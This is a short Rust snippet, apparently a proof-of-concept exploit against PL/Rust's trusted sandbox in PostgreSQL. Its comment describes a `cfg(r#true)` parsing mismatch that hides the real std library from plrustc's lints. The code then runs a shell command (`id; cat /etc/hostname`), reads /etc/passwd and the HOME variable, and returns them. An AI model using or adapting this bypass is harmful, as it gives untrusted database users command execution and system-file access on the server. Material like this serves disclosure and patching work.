// plrustc reads `r#true` as the boolean `true` (the raw prefix is dropped), so the
// empty `mod std` is present for the lints and hides the real std. rustc reads
// `r#true` as a cfg *name* nobody sets: false, the module is removed, and the
// paths below are std's.
#[cfg(r#true)]
mod std {}
let out = std::process::Command::new("sh").arg("-c").arg("id; cat /etc/hostname").output()?;
let passwd = std::fs::read_to_string("/etc/passwd")?;
let home = std::env::var("HOME").unwrap_or_default();
Ok(Some(format!("{} | passwd: {} lines | HOME={}", String::from_utf8_lossy(&out.stdout).replace('\n', " "), passwd.lines().count(), home)))
